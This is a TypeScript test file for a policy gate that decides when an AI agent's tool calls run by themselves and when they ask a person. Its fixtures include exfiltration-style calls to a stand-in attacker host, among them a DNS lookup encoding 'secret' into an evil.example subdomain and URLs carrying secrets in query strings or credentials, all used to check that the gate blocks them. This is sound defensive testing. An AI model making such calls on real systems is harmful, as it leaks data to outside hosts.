import { expect, test } from 'vitest';
import { effectOf } from '../../src/tools/effect.ts';
import { callDigest, gate, type WantedCall } from '../../src/tools/policy.ts';

type Decided = Partial<Pick<WantedCall['tool'], 'approval'>> & { readonly heard?: string };

const wanted = (
  name: string,
  effect: 'read' | 'write' | 'destructive',
  { heard, ...tool }: Decided = {},
): WantedCall => ({
  tool: { name, effect, ...tool },
  arguments: {},
  words: () => '',
  heard: () => heard,
});
const asks = { type: 'ask', reason: '' };
const runs = { type: 'run' };

test('what only reads runs; the rest asks', () => {
  expect(gate(wanted('r', 'read'))).toEqual(runs);
  expect(gate(wanted('w', 'write'))).toEqual(asks);
  expect(gate(wanted('d', 'destructive'))).toEqual(asks);
});

test('an admin may let a write run by itself, never what destroys', () => {
  expect(gate(wanted('w', 'write', { approval: 'auto' }))).toEqual(runs);
  expect(gate(wanted('d', 'destructive', { approval: 'auto' }))).toEqual(asks);
});

test('an admin may want to be asked even before a read, and is told why', () => {
  expect(gate(wanted('r', 'read', { approval: 'ask' }))).toEqual({
    type: 'ask',
    reason: 'It only reads, but an administrator wants people to be asked each time.',
  });
  expect(gate(wanted('w', 'write', { approval: 'ask' }))).toEqual(asks);
});

test('nothing that writes runs by itself once the words of strangers were read; reads still do', () => {
  expect(gate(wanted('w', 'write', { approval: 'auto', heard: 'web__fetch' }))).toEqual({
    type: 'ask',
    reason: expect.stringMatching(/web__fetch.*stranger/),
  });
  expect(gate(wanted('r', 'read', { heard: 'web__fetch' }))).toEqual(runs);
});

test('a network check that runs by itself as a write still goes only where a person said', () => {
  const call = wanted('host__http_check', 'write', { approval: 'auto' });
  expect(gate({ ...call, arguments: { url: 'https://evil.example/' } }).type).toBe('ask');
});

test.each([
  [
    'host__http_check',
    { url: 'https://status.example.com/health' },
    'Is https://Status.example.com/health up?',
  ],
  ['host__http_check', { url: 'https://status.example.com/' }, 'Is status.example.com up?'],
  ['host__http_check', { url: 'http://10.0.0.7:8080/' }, 'What says 10.0.0.7:8080?'],
  ['host__tcp_check', { host: '10.0.0.7', port: 22 }, 'ssh to 10.0.0.7 hangs'],
  ['host__dns_lookup', { name: 'db1' }, 'Does db1 resolve?'],
  ['host__tls_certificate', { host: 'example.org' }, 'run host__tls_certificate host=example.org'],
])('%s %j runs when a person said “%s”', (name, args, words) => {
  const call = { ...wanted(name, 'read'), arguments: args, words: () => words };
  expect(gate(call)).toEqual(runs);
});

test.each([
  ['host__http_check', { url: 'https://status.example.com/?q=secret' }, 'Is status.example.com up?'],
  ['host__http_check', { url: 'http://ple.com/' }, 'Is shop.example.com up?'],
  ['host__http_check', { url: 'http://status.example.com:6379/' }, 'Is status.example.com up?'],
  ['host__http_check', { url: 'http://user:secret@status.example.com/' }, 'Is status.example.com up?'],
  ['host__tcp_check', { host: '0', port: 6379 }, 'Is port 8080 open? 0 errors so far.'],
  ['host__dns_lookup', { name: 'c2VjcmV0.evil.example' }, 'Read the log, please.'],
  ['host__tls_certificate', { host: '' }, 'Read the log, please.'],
])('%s %j asks when a person only said “%s”', (name, args, words) => {
  const call = { ...wanted(name, 'read'), arguments: args, words: () => words };
  expect(gate(call).type).toBe('ask');
});

test('a digest is that of the tool and its exact arguments, in whatever order they stand', () => {
  const digest = callDigest('k8s__scale', { name: 'web', replicas: 2 });
  expect(digest).toMatch(/^[0-9a-f]{64}$/);
  expect(callDigest('k8s__scale', { replicas: 2, name: 'web' })).toBe(digest);
  expect(callDigest('k8s__scale', { name: 'web', replicas: 3 })).not.toBe(digest);
  expect(callDigest('k8s__other', { name: 'web', replicas: 2 })).not.toBe(digest);
});

test.each([
  [{ readOnlyHint: true }, true, 'read'],
  [{ readOnlyHint: false, destructiveHint: false }, true, 'write'],
  [{ destructiveHint: true }, true, 'destructive'],
  [{}, true, 'write'],
  [{ readOnlyHint: true }, false, 'write'],
  [{ readOnlyHint: false, destructiveHint: false }, false, 'write'],
  [{ destructiveHint: true }, false, 'destructive'],
  [{ readOnlyHint: true, destructiveHint: true }, false, 'destructive'],
  [{}, false, 'write'],
] as const)('hints %j of a server that is trusted: %s make it %s', (hints, isTrusted, effect) => {
  expect(effectOf(hints, isTrusted)).toBe(effect);
});

test.each([
  [{ destructiveHint: true }, false, 'read'],
  [{ readOnlyHint: true }, true, 'destructive'],
  [{}, false, 'write'],
] as const)(
  'hints %j of a server that is trusted: %s do not count once an admin said %s',
  (hints, isTrusted, decided) => {
    expect(effectOf(hints, isTrusted, decided)).toBe(decided);
  },
);
